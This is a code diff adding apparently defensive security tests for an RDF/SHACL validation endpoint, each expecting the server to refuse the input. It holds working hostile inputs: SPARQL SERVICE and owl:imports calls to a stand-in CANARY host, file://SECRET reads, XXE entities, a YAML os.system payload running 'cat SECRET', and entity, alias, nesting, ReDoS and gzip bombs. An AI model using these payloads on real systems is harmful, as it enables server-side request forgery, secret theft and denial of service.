@@ -12,6 +12,7 @@ import socket
 import time
 from collections.abc import Callable, Iterator
 from csv import QUOTE_MINIMAL, QUOTE_NONE, reader
+from itertools import pairwise
 from pathlib import Path
 from typing import NamedTuple
 from urllib.parse import quote, quote_plus, urlencode
@@ -730,7 +731,114 @@ def _escaped(text: str) -> str:
     return quote_plus(text, safe="").replace("+", "%20")
 
 
-ATTACKS: tuple[Attack, ...] = (*_elsewhere(), *_much(), *_unfit(), *_named())
+# -- what is sent to be validated
+
+_SH = "@prefix sh: <http://www.w3.org/ns/shacl#> . @prefix owl: <http://www.w3.org/2002/07/owl#> . "
+_SHAPE = f"{_SH}<urn:s> a sh:NodeShape ; sh:targetSubjectsOf <urn:p> ; "
+_ONE = "<urn:a> <urn:p> <urn:b> ."
+_XML = "application/rdf+xml"
+_JSONLD = "application/ld+json"
+REFUSED_SHAPES = frozenset((422,))
+UNTAKEN = frozenset((413, 422))
+"""Told that it cannot be read, or that it is too long."""
+
+_SHAPES = {
+    "calls a server": f"{_SHAPE}sh:sparql [ sh:select 'SELECT $this {{ {_CALL} }}' ] .",
+    "calls a server with an escaped letter": _SHAPE
+    + r"sh:sparql [ sh:select 'SELECT $this { SERV\\u0049CE <CANARY/s> { $this ?p ?o } }' ] .",
+    "call a server by a prefix": _SHAPE
+    + "sh:sparql [ sh:prefixes <urn:o> ; sh:select 'SELECT $this { $this ?p ?o }' ] . <urn:o> "
+    "sh:declare [ sh:prefix 'e: <urn:x> SELECT $this { SERVICE <CANARY/s> { $this ?p ?o } } #' ; "
+    "sh:namespace 'urn:e' ] .",
+    "call a server to find targets": f"{_SH}<urn:s> a sh:NodeShape ; sh:target [ a "
+    f"sh:SPARQLTarget ; sh:select 'SELECT ?this {{ {_CALL} }}' ] .",
+    "call a server in a rule": f"{_SHAPE}sh:rule [ a sh:SPARQLRule ; sh:construct "
+    f"'CONSTRUCT {{ $this <urn:q> ?o }} WHERE {{ {_CALL} }}' ] .",
+    "call a server in a component": f"{_SH}<urn:C> a sh:ConstraintComponent ; sh:parameter "
+    f"[ sh:path <urn:q> ] ; sh:validator [ sh:ask 'ASK {{ {_CALL} }}' ] .",
+    "import from a server": f"{_SHAPE}sh:nodeKind sh:IRI . <urn:x> owl:imports <CANARY/x.ttl> .",
+    "import a file": f"{_SHAPE}sh:nodeKind sh:IRI . <urn:x> owl:imports <file://SECRET> .",
+    "load script": f"{_SHAPE}sh:js [ sh:jsLibrary [ sh:jsLibraryURL 'CANARY/x.js' ] ] .",
+    "read a file by FROM": _SHAPE  # noqa: S608 -- SPARQL, and meant
+    + "sh:sparql [ sh:select 'SELECT $this FROM <file://SECRET> { $this ?p ?o }' ] .",
+}
+_LOADED = {
+    "a context of a server": (_JSONLD, '{"@context": "CANARY/c", "a": 1}'),
+    "a context in a file": (_JSONLD, '{"@context": "file://SECRET", "a": 1}'),
+    "a context that imports": (_JSONLD, '{"@context": {"@import": "CANARY/c"}, "a": 1}'),
+    "an entity of a file": (_XML, '<!DOCTYPE r [<!ENTITY a SYSTEM "file://SECRET">]><r>&a;</r>'),
+    "an entity of a server": (_XML, '<!DOCTYPE r [<!ENTITY a SYSTEM "CANARY/e">]><r>&a;</r>'),
+    "a document type of a server": (_XML, '<!DOCTYPE r SYSTEM "CANARY/d"><r/>'),
+    "a file as a mapping": ("application/yaml", "!include SECRET"),
+    "a call as a mapping": ("application/yaml", "!!python/object/apply:os.system ['cat SECRET']"),
+}
+
+
+def _bombs() -> Iterator[tuple[str, str, str]]:
+    """What is short and means much: a name, a media type, a body."""
+    entities = "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in pairwise("abcdefghijkl"))
+    yield "entities of entities", _XML, f"<!DOCTYPE r [<!ENTITY a 'x'>{entities}]><r>&l;</r>"
+    aliases = "".join(f"{b}: &{b} [{f'*{a},' * 9}]\n" for a, b in pairwise("abcdefghijkl"))
+    yield "aliases of aliases", "application/yaml", f"a: &a [x]\n{aliases}"
+    yield "a deep list of YAML", "application/yaml", "a: " + "[" * 200_000
+    yield "a deep map of YAML", "application/yaml", "{a: " * 100_000
+    yield "deep JSON", _JSONLD, '{"a": ' * 100_000
+    yield "deep lists of JSON", _JSONLD, '{"@id": "urn:a", "urn:b": ' + "[" * 100_000
+    yield "deep XML", _XML, "<a:b xmlns:a='urn:a'>" * 50_000
+    yield "deep Turtle", "text/turtle", "<urn:a> <urn:b> " + "[ <urn:b> " * 100_000
+    yield "deep lists of Turtle", "text/turtle", "<urn:a> <urn:b> " + "( " * 100_000
+
+
+def _by_shapes(shapes: str, data: str = _ONE) -> Callable[[Target], bytes]:
+    part = '--x\r\nContent-Disposition: form-data; name="{}"\r\n\r\n{}\r\n'
+    body = f"{part.format('data', data)}{part.format('shapes', shapes)}--x--\r\n"
+    return _post("/validate", "multipart/form-data; boundary=x", body)
+
+
+def _submitted() -> Iterator[Attack]:
+    for name, shapes in _SHAPES.items():
+        yield Attack(f"validates by shapes that {name}", _by_shapes(shapes), REFUSED_SHAPES)
+    for name, (kind, body) in _LOADED.items():
+        yield Attack(f"validates {name}", _post("/validate", kind, body), UNTAKEN)
+    for name, kind, body in _bombs():
+        # where it ends the worker, the next one answers
+        yield Attack(f"validates {name}", _post("/validate", kind, body), UNTAKEN | {503, 504})
+    for place in ("CANARY/x.ttl", "file://SECRET"):
+        kind = "a server" if "CANARY" in place else "a file"
+        said = f"<urn:a> <http://www.w3.org/2002/07/owl#imports> <{place}> ."
+        yield Attack(f"validates imports of {kind}", _post("/validate", "text/turtle", said), EMPTY)
+    text = "a" * 40 + "!"
+    slow = f"{_SHAPE}sh:property [ sh:path <urn:p> ; sh:pattern '^(a+)+$' ] ."
+    yield Attack(
+        "validates by a pattern that backtracks",
+        _by_shapes(slow, f"<urn:a> <urn:p> '{text}' ."),
+        COSTLY,
+    )
+    deep = "".join(f"<urn:s{i}> sh:node <urn:s{i + 1}> . " for i in range(5_000))
+    yield Attack(
+        "validates by shapes in shapes",
+        _by_shapes(f"{_SHAPE}sh:node <urn:s0> . {deep}"),
+        COSTLY | {422},
+    )
+    many = "".join(f"<urn:a{i}> <urn:p> <urn:a{i + 1}> . " for i in range(3_000))
+    paths = f"{_SHAPE}sh:property [ sh:path [ sh:zeroOrMorePath <urn:p> ] ; sh:maxCount 1 ] ."
+    yield Attack("validates by a path of any length", _by_shapes(paths, many), COSTLY)
+    product = f"{_SHAPE}sh:sparql [ sh:select 'SELECT $this {{ $this ?x ?y . {_ALL} }}' ] ."
+    yield Attack("validates by a product of everything", _by_shapes(product, many), COSTLY | {422})
+    yield Attack("validates too much", _post("/validate", "text/turtle", b"#" * 5_000_000), UNTAKEN)
+    packed = _post(
+        "/validate", "text/turtle", gzip.compress(b"#" * 10_000_000), "Content-Encoding: gzip"
+    )
+    yield Attack("validates what is packed", packed, frozenset((415,)))
+
+
+ATTACKS: tuple[Attack, ...] = (
+    *_elsewhere(),
+    *_much(),
+    *_unfit(),
+    *_named(),
+    *_submitted(),
+)
 """Every attack."""
 
 
